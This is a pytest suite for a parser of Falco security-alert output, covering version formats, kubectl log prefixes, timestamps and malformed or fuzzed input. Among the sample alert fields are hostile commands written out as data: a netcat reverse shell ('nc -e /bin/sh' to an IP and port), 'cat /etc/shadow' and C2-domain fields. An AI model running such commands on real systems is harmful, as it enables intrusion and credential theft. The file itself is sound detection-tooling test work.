"""Parsing Falco output: every version's shape (fixtures), and every kind of bad line."""

from __future__ import annotations

import datetime
import io
import json
import pickle
import random
from collections.abc import Callable
from pathlib import Path

import pytest

from actions.falco.alert import PRIORITIES, FalcoAlert, RejectedLine
from actions.falco.parse import INTERNAL_ERROR, iter_lines, parse_line, split_kubectl_prefixes
from actions.falco.text_form import RULE_INFERRED

FIXTURES = Path(__file__).parent / "fixtures" / "falco"
DAY = datetime.date(2026, 11, 27)


def fixture_lines(name: str) -> list[bytes]:
    with (FIXTURES / name).open("rb") as stream:
        return list(iter_lines(stream))


def expected_ns(iso: str) -> int:
    """Oracle: whole seconds through datetime, the fraction's digits added as integers."""
    whole, _, rest = iso.partition(".")
    fraction = "".join(ch for ch in rest if ch.isdigit())[:9]
    seconds = datetime.datetime.fromisoformat(whole[:19]).replace(tzinfo=datetime.UTC)
    return int(seconds.timestamp()) * 1_000_000_000 + int(fraction.ljust(9, "0") or 0)


def alert(raw: bytes, **kwargs: object) -> FalcoAlert:
    result = parse_line(raw, **kwargs)  # type: ignore[arg-type]
    assert isinstance(result, FalcoAlert), result
    return result


def rejected(raw: bytes) -> RejectedLine:
    result = parse_line(raw)
    assert isinstance(result, RejectedLine), result
    return result


def c2_doc(**changes: object) -> dict[str, object]:
    """A Falco 0.41 JSON alert as a dict, to be changed and serialised by a test."""
    doc: dict[str, object] = json.loads(fixture_lines("json_options.jsonl")[1])
    doc["output"] = "03:13:00.000000001: Warning Outbound connection to C2 server | c2_domain=x"
    doc["tags"] = ["TA0011", "network"]
    doc.update(changes)
    return {key: value for key, value in doc.items() if value is not _DROP}


_DROP = object()


def line_of(doc: dict[str, object]) -> bytes:
    return json.dumps(doc, separators=(",", ":"), sort_keys=True).encode()


# --- every shape of formats.md section 1 -------------------------------------------


def test_falco_041_json_with_container_plugin_fields() -> None:
    k8s, redirect, host = (alert(line) for line in fixture_lines("json_0.41.jsonl"))

    assert k8s.rule == "Contact K8S API Server From Container"
    assert k8s.priority == "Notice"
    assert k8s.source == "syscall"
    assert k8s.hostname == "node-a-1"
    assert k8s.tags == (
        "T1565",
        "container",
        "k8s",
        "maturity_stable",
        "mitre_discovery",
        "network",
    )
    assert k8s.time == "2026-11-27T03:12:01.004518233Z"
    assert k8s.time_ns == expected_ns(k8s.time) == k8s.output_fields["evt.time"]
    assert k8s.output.startswith("03:12:01.004518233: Notice Unexpected connection to K8s API")
    assert k8s.output_fields["k8s.ns.name"] == "voicehive"
    assert k8s.output_fields["fd.lport"] == 43122
    assert k8s.output_fields["user.loginuid"] == -1
    assert (k8s.form, k8s.warnings, k8s.raw) == ("json", (), None)

    # k8s fields null while the runtime lookup is pending; last nanosecond of a second.
    assert redirect.output_fields["k8s.pod.name"] is None
    assert redirect.output_fields["proc.aname[4]"] is None
    assert redirect.time_ns == expected_ns("2026-11-27T03:12:02.999999999Z")
    assert redirect.time_ns == redirect.output_fields["evt.time"]

    # Host process: container.id is "host"; UTF-8 and a decoded ESC kept as data.
    assert host.output_fields["container.id"] == "host"
    assert host.output_fields["k8s.ns.name"] is None
    assert "opérateur" in str(host.output_fields["proc.cmdline"])
    assert "\x1b[31m" in str(host.output_fields["proc.cmdline"])
    assert host.time_ns == host.output_fields["evt.time"] == expected_ns(host.time)


def test_falco_039_json_parenthesised_rules_and_message_property() -> None:
    k8s, netcat = (alert(line) for line in fixture_lines("json_0.39.jsonl"))
    assert "k8s.ns.name" not in k8s.output_fields  # not appended before 0.41 by default
    assert k8s.output.endswith("container_id=3f2a1b9c8d7e container_name=api-gateway)")
    assert k8s.time_ns == k8s.output_fields["evt.time"]
    # With json_include_message_property the output still carries its prefix.
    assert netcat.output.startswith("09:12:05.500000000: Warning Netcat runs inside container")
    assert netcat.output_fields["evt.arg.flags"] == "EXE_WRITABLE"
    assert netcat.warnings == ()


def test_falco_038_json_with_output_fields_grafted_last() -> None:
    raw = fixture_lines("json_0.38.jsonl")[0]
    assert b'"time":"2024-06-30T23:59:59.999999999Z", "output_fields": {' in raw
    parsed = alert(raw)
    assert parsed.time_ns == expected_ns(parsed.time) == parsed.output_fields["evt.time"]
    assert parsed.output_fields["k8s.pod.name"] == "api-gateway-5d7f9b8c6-h3k2l"
    assert "k8s_ns=voicehive" in parsed.output  # -pk spelling before 0.41
    assert parsed.warnings == ()


def test_falco_036_json_with_rules_2_typo() -> None:
    parsed = alert(fixture_lines("json_0.36.jsonl")[0])
    assert "fd_proto=fd.l4proto" in parsed.output
    assert "fd.l4proto" not in parsed.output_fields
    assert parsed.hostname == "falco-x2k7p"
    assert parsed.time_ns == expected_ns("2023-09-26T10:20:05.408091526Z")


def test_json_options_drop_output_tags_output_fields_hostname_source() -> None:
    no_output, no_tags, no_fields, message_only, no_hostname, pre_030 = (
        alert(line) for line in fixture_lines("json_options.jsonl")
    )
    assert no_output.output.startswith("Outbound Connection to C2 Servers | ")
    assert "fd.sip.name=c2.example.net" in no_output.output
    assert any("no 'output' property" in warning for warning in no_output.warnings)
    assert no_output.raw is not None

    assert (no_tags.tags, no_tags.warnings) == ((), ())
    assert (no_fields.output_fields, no_fields.warnings) == ({}, ())
    assert message_only.output.startswith("Outbound connection to C2 server | c2_domain=")
    assert (no_hostname.hostname, no_hostname.source) == (None, "syscall")
    assert (pre_030.hostname, pre_030.source, pre_030.tags) == (None, None, ())
    assert len({a.time_ns for a in (no_output, no_tags, no_fields, message_only, pre_030)}) == 1


def test_internal_event_json_and_text_agree() -> None:
    json_form = alert(fixture_lines("internal.jsonl")[0])
    text_form = alert(fixture_lines("internal_text.log")[0], reference_date=DAY)
    assert json_form.source == text_form.source == "internal"
    assert json_form.rule == text_form.rule == "Falco internal: syscall event drop"
    assert json_form.priority == text_form.priority == "Debug"
    assert json_form.tags == ()
    assert all(type(value) is str for value in json_form.output_fields.values())
    assert text_form.output_fields == json_form.output_fields
    assert text_form.time_ns == json_form.time_ns
    assert RULE_INFERRED in text_form.warnings


def test_falcosidekick_body_trimmed_fraction_and_go_escapes() -> None:
    parsed = alert(fixture_lines("sidekick.jsonl")[0])
    assert parsed.time == "2025-03-14T09:12:01.0045182Z"
    assert parsed.time_ns == 1_741_943_521_004_518_200
    assert parsed.output_fields["proc.cmdline"] == "sh -c echo <!channel> & done"
    assert parsed.warnings == ()


def test_text_form_rules_4_pipe() -> None:
    k8s, netcat = (alert(line, reference_date=DAY) for line in fixture_lines("text_rules4.log"))
    assert k8s.form == "text"
    assert k8s.rule == "Unexpected connection to K8s API Server from container"
    assert k8s.priority == "Notice"
    assert (k8s.source, k8s.hostname, k8s.tags) == (None, None, ())
    assert k8s.time == "03:12:01.004518233"
    assert k8s.time_ns == expected_ns("2026-11-27T03:12:01.004518233Z")
    assert k8s.output_fields["connection"] == "10.0.3.17:43122->10.96.0.1:443"
    # A value with spaces and a " | " of its own stays whole.
    assert k8s.output_fields["command"] == "curl -sk https://kubernetes.default.svc/api?x=1 | y"
    assert k8s.output_fields["k8s_ns_name"] == "voicehive"
    assert k8s.warnings == (RULE_INFERRED,)
    assert netcat.output_fields["command"] == "nc -e /bin/sh 10.0.9.9 4444"
    assert netcat.output_fields["k8s_pod_name"] is None  # <NA>
    assert netcat.output == fixture_lines("text_rules4.log")[1].decode()


def test_text_form_rules_3_parentheses() -> None:
    k8s, docs_example = (
        alert(line, reference_date=DAY) for line in fixture_lines("text_rules3.log")
    )
    assert k8s.rule == "Unexpected connection to K8s API Server from container"
    assert k8s.output_fields["command"] == "curl -sk https://kubernetes.default.svc/api?x=1 | y"
    assert k8s.output_fields["container_name"] == "api-gateway"  # without the closing ")"
    assert docs_example.rule == "Sensitive file opened for reading by non-trusted program"
    assert docs_example.output_fields == {
        "user": "root",
        "command": "cat /etc/shadow",
        "file": "/etc/shadow",
    }


def test_text_form_iso_8601_time_needs_no_date() -> None:
    parsed = alert(fixture_lines("text_iso.log")[0])
    assert parsed.time == "2025-03-14T09:12:01.004518233+0000"
    assert parsed.time_ns == expected_ns("2025-03-14T09:12:01.004518233Z")
    assert parsed.warnings == (RULE_INFERRED,)


def test_text_form_without_a_date_assumes_today_and_says_so() -> None:
    before = datetime.datetime.now(datetime.UTC).date()
    parsed = alert(b"03:12:01.000000007: Notice Unexpected UDP Traffic Seen | connection=x")
    after = datetime.datetime.now(datetime.UTC).date()
    assert "text form: no date in the line, assumed today (UTC)" in parsed.warnings
    assert parsed.time_ns in {
        expected_ns(f"{day.isoformat()}T03:12:01.000000007Z") for day in (before, after)
    }


def test_kubectl_stream_with_falco_log_and_statistics_lines() -> None:
    results = [parse_line(line) for line in fixture_lines("kubectl_stream.log")]
    alerts = [r for r in results if isinstance(r, FalcoAlert)]
    reasons = [r.reason for r in results if isinstance(r, RejectedLine)]
    assert [a.rule for a in alerts] == [
        "Contact K8S API Server From Container",
        "Redirect STDOUT/STDIN to Network Connection in Container",
        "Falco internal: syscall event drop",
        "Disallowed SSH Connection Non Standard Port",
    ]
    assert reasons.count("not a Falco alert: Falco log line") == 14
    assert reasons.count("not a Falco alert: Falco statistics line") == 10
    assert len(results) == 28


def test_kubectl_prefix_and_timestamps_are_stripped_and_kept() -> None:
    plain = [parse_line(line) for line in fixture_lines("kubectl_stream.log")]
    prefixed = [parse_line(line) for line in fixture_lines("kubectl_timestamps_prefix.log")]
    assert [type(r) for r in plain] == [type(r) for r in prefixed]
    for bare, stamped in zip(plain, prefixed, strict=True):
        assert isinstance(stamped, FalcoAlert | RejectedLine)
        assert stamped.log_time is not None
        assert stamped.log_time.endswith("Z")
        if isinstance(bare, FalcoAlert):
            assert isinstance(stamped, FalcoAlert)
            assert stamped.log_prefix == "pod/falco-x2k7p/falco"
            assert stamped.dedupe_key == bare.dedupe_key
            assert stamped.output_fields == bare.output_fields
        else:
            assert isinstance(bare, RejectedLine)
            assert isinstance(stamped, RejectedLine)
            assert stamped.reason == bare.reason


def test_split_kubectl_prefixes_leaves_falco_iso_times_alone() -> None:
    assert split_kubectl_prefixes("2026-11-27T03:12:01.123456789Z {}") == (
        None,
        "2026-11-27T03:12:01.123456789Z",
        "{}",
    )
    falco_text = "2025-03-14T09:12:01.004518233+0000: Notice x"
    assert split_kubectl_prefixes(falco_text) == (None, None, falco_text)


def test_text_alert_after_kubectl_timestamp_takes_its_date_even_across_midnight() -> None:
    parsed = alert(b"2026-11-27T00:00:00.100000000Z 23:59:59.900000000: Notice X | a=b")
    assert parsed.time_ns == expected_ns("2026-11-26T23:59:59.9Z")
    assert "text form: date taken from the kubectl timestamp" in parsed.warnings


def test_text_alert_after_a_kubectl_timestamp_at_the_edge_of_time_falls_back_to_today() -> None:
    parsed = alert(b"0001-01-01T00:00:00.1Z 23:59:59.900000000: Notice X | a=b")
    assert "text form: no date in the line, assumed today (UTC)" in parsed.warnings


# --- dedupe key ----------------------------------------------------------------------


def test_dedupe_key_is_stable_and_uses_raw_values() -> None:
    line = fixture_lines("json_0.41.jsonl")[0]
    first, again = alert(line), alert(line)
    assert first.dedupe_key == again.dedupe_key
    assert len(first.dedupe_key) == 32
    reordered = json.dumps(json.loads(line), sort_keys=False, indent=None).encode()
    assert alert(reordered).dedupe_key == first.dedupe_key
    # Two alerts one nanosecond apart differ, though a datetime would hold them equal.
    later = line.replace(
        b'"time":"2026-11-27T03:12:01.004518233Z"', b'"time":"2026-11-27T03:12:01.004518234Z"'
    )
    assert alert(later).dedupe_key != first.dedupe_key


def test_dedupe_key_parts_cannot_be_shifted_into_each_other() -> None:
    def key(hostname: str | None, rule: str) -> str:
        return alert(line_of(c2_doc(hostname=hostname, rule=rule))).dedupe_key

    assert key("ab", "c") != key("a", "bc")
    assert key(None, "x") != key("", "x")


# --- bad input ----------------------------------------------------------------------


def test_truncated_json_is_rejected_with_position() -> None:
    line = fixture_lines("json_0.41.jsonl")[0]
    result = rejected(line[:812])
    assert result.reason.startswith("truncated JSON (")
    assert "column" in result.reason
    assert result.raw == line[:812]


def test_invalid_utf8_cannot_hide_an_alert() -> None:
    line = fixture_lines("json_0.41.jsonl")[0].replace(b"curl -sk", b"curl \xff\xfe-sk")
    parsed = alert(line)
    assert parsed.rule == "Contact K8S API Server From Container"
    assert str(parsed.output_fields["proc.cmdline"]).startswith("curl \ufffd\ufffd-sk")
    assert "invalid UTF-8 replaced by U+FFFD" in parsed.warnings
    assert parsed.raw == line  # the original bytes are not lost
    text_line = b"03:12:01.000000001: Warning Netcat runs \xc3(x | command=nc \xff -e sh"
    assert "\ufffd" in alert(text_line, reference_date=DAY).output


def test_lone_surrogate_escapes_become_replacement_characters() -> None:
    line = line_of(c2_doc(output="bad \ud800 end", output_fields={"proc.name": "x\udc00"}))
    assert b"\\ud800" in line
    parsed = alert(line)
    assert parsed.output == "bad \ufffd end"
    assert parsed.output_fields == {"proc.name": "x\ufffd"}
    assert "lone UTF-16 surrogate escapes replaced by U+FFFD" in parsed.warnings
    parsed.output.encode("utf-8")  # what SQLite needs


def test_lone_surrogate_in_an_internal_text_event_stays_as_written() -> None:
    line = b'03:14:00.000000017: Debug Falco internal: x (a="\\ud800" b="\\u00e9")'
    parsed = alert(line, reference_date=DAY)
    assert parsed.output_fields == {"a": '"\\ud800"', "b": "\u00e9"}


def test_multi_megabyte_alert_within_the_limit_is_kept_whole() -> None:
    command = "A" * (3 * 1024 * 1024)
    parsed = alert(line_of(c2_doc(output_fields={"proc.cmdline": command})))
    assert parsed.output_fields["proc.cmdline"] == command


def test_line_over_the_limit_is_rejected_with_its_real_length_and_the_stream_goes_on() -> None:
    good = fixture_lines("json_0.41.jsonl")[0]
    huge = b"{" + b"x" * (3 * 1024 * 1024)
    stream = io.BytesIO(good + b"\n" + huge + b"\r\n" + good)
    lines = list(iter_lines(stream, max_line_bytes=1024 * 1024))
    assert [len(line) for line in lines] == [len(good), 1024 * 1024, len(good)]
    result = rejected(lines[1])
    assert f"{len(huge):,} bytes" in result.reason
    assert result.reason.startswith("line too long")
    assert alert(lines[2]).rule == alert(lines[0]).rule  # the last line, without newline


def test_lines_and_results_survive_pickling_to_worker_processes() -> None:
    stream = io.BytesIO(b"y" * 20 + b"\n")
    (overlong,) = iter_lines(stream, max_line_bytes=8)
    copied = pickle.loads(pickle.dumps(overlong))
    assert rejected(copied).reason == rejected(overlong).reason
    parsed = alert(fixture_lines("json_0.41.jsonl")[0])
    assert pickle.loads(pickle.dumps(parsed)) == parsed


def test_iter_lines_handles_crlf_nul_and_exact_limit() -> None:
    stream = io.BytesIO(b"one\r\ntw\x00o\n\n" + b"x" * 8 + b"\n" + b"y" * 9 + b"\nlast")
    lines = list(iter_lines(stream, max_line_bytes=8))
    assert lines[:4] == [b"one", b"tw\x00o", b"", b"x" * 8]
    assert getattr(lines[4], "real_length", None) == 9
    assert lines[5] == b"last"
    assert parse_line(lines[2]) is None


@pytest.mark.parametrize(
    ("line", "warning"),
    [
        (
            b"\x00\x00\x00" + fixture_lines("json_0.41.jsonl")[0],
            "NUL bytes around the line removed",
        ),
        (
            fixture_lines("json_0.41.jsonl")[0].replace(b"curl -sk", b"curl\x00-sk"),
            "raw control characters inside JSON strings accepted",
        ),
    ],
)
def test_nul_bytes_do_not_hide_an_alert(line: bytes, warning: str) -> None:
    parsed = alert(line)
    assert parsed.rule == "Contact K8S API Server From Container"
    assert warning in parsed.warnings
    assert parsed.raw == line


def test_byte_order_mark_before_the_first_line_is_ignored() -> None:
    line = fixture_lines("json_0.41.jsonl")[0]
    assert alert("\ufeff".encode() + line).rule == "Contact K8S API Server From Container"


def test_nul_only_line_and_text_with_nul() -> None:
    assert rejected(b"\x00\x00").reason == "line holds only NUL bytes"
    text = alert(b"03:12:01.000000001: Notice Msg | command=a\x00b", reference_date=DAY)
    assert text.output_fields["command"] == "a\x00b"


def test_glued_lines_after_a_crash_keep_the_complete_alert() -> None:
    complete = fixture_lines("json_0.41.jsonl")[1]
    glued = fixture_lines("json_0.41.jsonl")[0][:300] + complete
    parsed = alert(glued)
    assert parsed.rule == "Redirect STDOUT/STDIN to Network Connection in Container"
    assert parsed.raw == glued
    assert any("characters before the alert skipped" in w for w in parsed.warnings)


def test_unknown_priority_is_kept_verbatim_with_a_warning() -> None:
    parsed = alert(line_of(c2_doc(priority="Urgent")))
    assert parsed.priority == "Urgent"
    assert parsed.priority_rank is None
    assert "unknown priority 'Urgent'" in parsed.warnings
    shouted = alert(line_of(c2_doc(priority="WARNING")))
    assert (shouted.priority, shouted.priority_rank) == ("WARNING", 4)
    assert shouted.warnings == ()
    assert PRIORITIES.index("Warning") == 4


@pytest.mark.parametrize(
    ("changes", "reason"),
    [
        ({"rule": 42}, "rule is not a string (got number)"),
        ({"rule": None}, "rule is not a string (got null)"),
        ({"rule": _DROP}, "not a Falco alert: JSON object without a 'rule' key"),
        ({"output": ["a"]}, "output is not a string (got array)"),
        ({"priority": 4}, "priority is not a string (got number)"),
        ({"priority": _DROP}, "no 'priority' key"),
        ({"time": 1741943521}, "time is not a string (got number)"),
        ({"time": _DROP}, "no 'time' key"),
        (
            {"output_fields": {"x": json.loads("[" * 40 + "]" * 40)}},
            "output_fields nested more than 32 levels deep",
        ),
        (
            {"output_fields": {"fd.lport": float("nan")}},
            "output_fields holds NaN or Infinity, which JSON cannot carry",
        ),
        (
            {"output_fields": {"x": [1, {"y": float("inf")}]}},
            "output_fields holds NaN or Infinity, which JSON cannot carry",
        ),
    ],
)
def test_fields_of_the_wrong_type_that_cannot_be_an_alert(
    changes: dict[str, object], reason: str
) -> None:
    assert rejected(line_of(c2_doc(**changes))).reason == reason


def test_fields_of_the_wrong_type_that_are_coerced() -> None:
    as_string = alert(line_of(c2_doc(tags="network")))
    assert as_string.tags == ("network",)
    assert "tags is not an array (got string): coerced" in as_string.warnings
    mixed = alert(line_of(c2_doc(tags=["network", 7, {"a": 1}])))
    assert mixed.tags == ("network", "7", '{"a": 1}')
    listed = alert(line_of(c2_doc(output_fields=["a", "b"])))
    assert listed.output_fields == {}
    assert "output_fields is not an object (got array): ignored" in listed.warnings
    assert listed.raw is not None  # the ignored value is still in the record
    numeric_host = alert(line_of(c2_doc(hostname=12, source=["syscall"])))
    assert (numeric_host.hostname, numeric_host.source) == ("12", '["syscall"]')


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        (b"[]", "not a Falco alert: JSON array, not an object"),
        (b'"alert"', "not a Falco alert: JSON string, not an object"),
        (b"42", "not a Falco alert: JSON number, not an object"),
        (b"null", "not a Falco alert: JSON null, not an object"),
        (b"true", "not a Falco alert: JSON boolean, not an object"),
        (b"[" * 200_000, "JSON nested too deeply"),
        (b'{"a":' * 200_000, "JSON nested too deeply"),
        (
            b"Fri Nov 27 03:11:58 2026: Falco version: 0.41.3 (x86_64)",
            "not a Falco alert: Falco log line",
        ),
        (b"2025-03-14T09:00:01+0000: Loading rules from:", "not a Falco alert: Falco log line"),
        (b"   WARNING: 3", "not a Falco alert: Falco statistics line"),
        (b"error: unexpected EOF", "not a Falco alert: kubectl error line"),
        (b"hello world", "not a Falco alert: unrecognised text"),
        (b"[INFO] started", "not a Falco alert: unrecognised text"),
    ],
)
def test_lines_that_are_not_alerts(line: bytes, reason: str) -> None:
    assert rejected(line).reason == reason


@pytest.mark.parametrize(
    "time",
    [
        "yesterday",
        "2025-13-01T00:00:00.000000000Z",
        "2025-02-29T00:00:00.000000000Z",
        "2025-03-14T25:00:00.000000000Z",
        "2025-03-14T09:12:01.004518233",
        "2025-03-14T09:12:01.00451823_Z",
        "\u0662\u0660\u0662\u0665-03-14T09:12:01.004518233Z",
        "2025-03-14T09:12:01.004518233+25:00",
        "",
    ],
)
def test_times_that_are_not_times_are_rejected(time: str) -> None:
    assert "time" in rejected(line_of(c2_doc(time=time))).reason


def test_json_number_too_long_for_python_is_rejected() -> None:
    line = line_of(c2_doc(output_fields={"n": 1})).replace(b'"n":1', b'"n":' + b"9" * 5000)
    assert rejected(line).reason == (
        "invalid JSON (Exceeds the limit (4300 digits) for integer string conversion)"
    )


def test_text_line_with_unknown_priority_needs_fields_to_be_an_alert() -> None:
    assert rejected(b"12:00:00.000000001: Something happened").reason == (
        "not a Falco alert: unknown priority and no fields"
    )
    parsed = alert(b"12:00:00.000000001: Urgent Odd thing | a=b", reference_date=DAY)
    assert parsed.priority == "Urgent"
    assert "unknown priority 'Urgent'" in parsed.warnings


def test_text_fields_are_capped_but_the_output_keeps_everything() -> None:
    pairs = " ".join(f"k{number}=v" for number in range(5000))
    parsed = alert(f"12:00:00.000000001: Notice Many | {pairs}".encode(), reference_date=DAY)
    assert len(parsed.output_fields) == 512
    assert parsed.output.endswith("k4999=v")


def test_alerts_can_be_hashed_and_kept_in_sets() -> None:
    lines = fixture_lines("json_0.41.jsonl")
    assert len({alert(line) for line in lines + lines}) == len(lines)


def test_text_time_that_is_not_a_time_is_rejected() -> None:
    assert "not a time of day" in rejected(b"25:61:00.000000000: Notice X | a=b").reason


def test_more_than_nine_fractional_digits_are_truncated() -> None:
    parsed = alert(line_of(c2_doc(time="2025-03-14T09:12:01.0045182339999Z")))
    assert parsed.time == "2025-03-14T09:12:01.0045182339999Z"
    assert parsed.time_ns == expected_ns("2025-03-14T09:12:01.004518233Z")
    assert "time has 13 fractional digits: truncated to nanoseconds" in parsed.warnings


@pytest.mark.parametrize("time", ["0000-01-01T00:00:00.000000000Z", "10000-01-01T00:00:00Z"])
def test_times_outside_datetime_range_keep_the_raw_value(time: str) -> None:
    parsed = alert(line_of(c2_doc(time=time)))
    assert (parsed.time, parsed.time_ns) == (time, None)
    assert any("outside the years 1-9999" in warning for warning in parsed.warnings)


@pytest.mark.parametrize(
    ("time", "utc"),
    [
        ("2025-03-14T14:42:01.5+05:30", "2025-03-14T09:12:01.5Z"),
        ("2025-03-14T04:12:01-0500", "2025-03-14T09:12:01Z"),
        ("2025-03-14 09:12:01,25z", "2025-03-14T09:12:01.25Z"),
        ("2262-04-11T23:47:16.854775807Z", "2262-04-11T23:47:16.854775807Z"),
        ("1969-12-31T23:59:59.999999999Z", "1969-12-31T23:59:59.999999999Z"),
    ],
)
def test_time_ns_is_exact_for_offsets_and_extremes(time: str, utc: str) -> None:
    assert alert(line_of(c2_doc(time=time))).time_ns == expected_ns(utc)


@pytest.mark.parametrize(
    "time", ["0001-01-01T00:00:00.000000001Z", "1677-09-21T00:12:43.145224191Z",
             "2262-04-11T23:47:16.854775808Z", "9999-12-31T23:59:59.999999999Z"],
)  # fmt: skip
def test_a_time_beyond_64_bit_nanoseconds_is_kept_raw_without_time_ns(time: str) -> None:
    # SQLite, Go and Falco's own evt.time hold 64 bits: beyond them, the text alone (issue 15).
    parsed = alert(line_of(c2_doc(time=time)))
    assert (parsed.time, parsed.time_ns) == (time, None)
    assert any("outside what 64-bit nanoseconds hold" in w for w in parsed.warnings)


def test_leap_second_is_accepted_as_the_next_second() -> None:
    parsed = alert(line_of(c2_doc(time="2016-12-31T23:59:60.5Z")))
    assert parsed.time_ns == expected_ns("2017-01-01T00:00:00.5Z")


def test_empty_and_whitespace_lines_give_none() -> None:
    assert parse_line(b"") is None
    assert parse_line(b"  \t\r") is None


# --- nothing raises ----------------------------------------------------------------


def _mutations(rng: random.Random, seeds: list[bytes]) -> list[bytes]:
    specials = [
        b"\x00",
        b"\xff",
        b"\xc3",
        b"\\",
        b'"',
        b"{",
        b"}",
        b"[",
        b"]",
        b"\\ud800",
        b"\n",
        b" | ",
        b" (",
        b"=",
        b"NaN",
        b"1e999",
        b"9" * 5000,
        b"<NA>",
        b"Z",
    ]
    cases: list[bytes] = []
    for _ in range(2500):
        line = bytearray(rng.choice(seeds))
        for _ in range(rng.randint(1, 6)):
            action = rng.randrange(5)
            position = rng.randrange(len(line) + 1)
            if action == 0 and line:
                del line[position : position + rng.randint(1, 40)]
            elif action == 1:
                line[position:position] = rng.choice(specials)
            elif action == 2 and line:
                line[rng.randrange(len(line))] = rng.randrange(256)
            elif action == 3:
                line = line[:position]
            else:
                line[position:position] = bytes(
                    rng.randrange(256) for _ in range(rng.randint(1, 12))
                )
        cases.append(bytes(line))
    cases.extend(bytes(rng.randrange(256) for _ in range(rng.randint(0, 200))) for _ in range(500))
    return cases


def test_random_and_mutated_lines_never_raise() -> None:
    paths = sorted(path for path in FIXTURES.iterdir() if path.suffix in {".jsonl", ".log"})
    seeds = [line for path in paths for line in fixture_lines(path.name) if line]
    assert len(seeds) > 40
    accepted = 0
    for case in _mutations(random.Random(20261127), seeds):
        result = parse_line(case, reference_date=DAY)
        if result is None:
            assert not case.strip()
            continue
        if isinstance(result, RejectedLine):
            assert not result.reason.startswith(INTERNAL_ERROR), (case, result.reason)
            assert result.raw == case
            continue
        accepted += 1
        assert result.time_ns is None or isinstance(result.time_ns, int)
        # Everything an alert carries can go to SQLite and through the audit chain.
        texts = [result.time, result.rule, result.priority, result.output, *result.tags]
        for text in texts + [result.hostname or "", result.source or ""]:
            text.encode("utf-8")
        json.dumps(result.output_fields, ensure_ascii=False, allow_nan=False).encode("utf-8")
        assert len(result.dedupe_key) == 32
    assert accepted > 100  # the mutations kept many alerts readable


def _random_value(rng: random.Random, depth: int = 0) -> object:
    choices: list[Callable[[], object]] = [
        lambda: None,
        lambda: rng.random() < 0.5,
        lambda: rng.randint(-(10**20), 10**20),
        lambda: rng.random() * 1e308 * rng.choice([1, 10]),  # 1e309 is Infinity
        lambda: "".join(chr(rng.randrange(0x11000)) for _ in range(rng.randrange(6))),
        lambda: "2025-03-14T09:12:01.004518233Z",
        lambda: "Notice",
    ]
    if depth < 3:
        choices.append(lambda: [_random_value(rng, depth + 1) for _ in range(rng.randrange(3))])
        choices.append(lambda: {str(rng.random()): _random_value(rng, depth + 1) for _ in range(3)})
    return rng.choice(choices)()


def test_random_json_documents_never_raise() -> None:
    """Every key present or not, of a right or a random type (lone surrogates included)."""
    rng = random.Random(7)
    good = json.loads(fixture_lines("json_0.41.jsonl")[0])
    good["message"] = "Unexpected connection to K8s API Server from container"
    accepted = 0
    for _ in range(3000):
        doc = {
            key: _random_value(rng) if rng.random() < 0.3 else value
            for key, value in good.items()
            if rng.random() < 0.85
        }
        line = json.dumps(doc, ensure_ascii=rng.random() < 0.5).encode("utf-8", "surrogatepass")
        result = parse_line(line)
        if isinstance(result, RejectedLine):
            assert not result.reason.startswith(INTERNAL_ERROR), (line, result.reason)
            continue
        assert isinstance(result, FalcoAlert)
        accepted += 1
        for text in [result.time, result.rule, result.priority, result.output, *result.tags]:
            text.encode("utf-8")
        json.dumps(result.output_fields, ensure_ascii=False, allow_nan=False).encode("utf-8")
    assert accepted > 300
